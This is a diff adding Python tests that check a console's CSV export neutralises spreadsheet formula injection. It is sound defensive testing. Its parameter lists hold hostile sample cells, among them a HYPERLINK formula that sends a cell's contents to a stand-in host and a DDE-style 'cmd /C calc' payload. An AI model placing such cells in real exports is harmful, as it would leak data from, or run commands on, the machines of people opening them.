@@ -310,3 +310,25 @@ def test_stage_pages_record_the_work(app, users):
     assert ok.status_code == 302
     page = alice.get(f"/orders/{no}").get_data(as_text=True)
     assert "SF1234567890123" in page and "海口市龙华区滨海大道99号" in page
+
+
+@pytest.mark.parametrize("evil", ['=HYPERLINK("http://x.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
+                                  "-2+3", "\t=1+1", "\r=1+1"])
+def test_failure_csv_cells_cannot_run_as_formulas(app, users, evil):
+    rows = [["JR-NOPE", "驳回", "", evil]]
+    with app.app_context():
+        batch = imports.preview("r.csv", csv_bytes(rows), actor(app, users["carol"]))
+        text = imports.failures_csv(batch).decode("utf-8-sig")
+    import csv as csv_module
+
+    cells = [cell for row in csv_module.reader(io.StringIO(text)) for cell in row]
+    assert ("'" + evil.strip()) in cells  # the import strips cells; what is left is still neutralised
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
+
+
+@pytest.mark.parametrize(("cell", "written"), [("=1+1", "'=1+1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
+                                               ("普通文本", "普通文本"), (-3, -3), (None, "")])
+def test_the_csv_writer_neutralises_formula_cells(cell, written):
+    from console.services.csvout import safe_cell
+
+    assert safe_cell(cell) == written
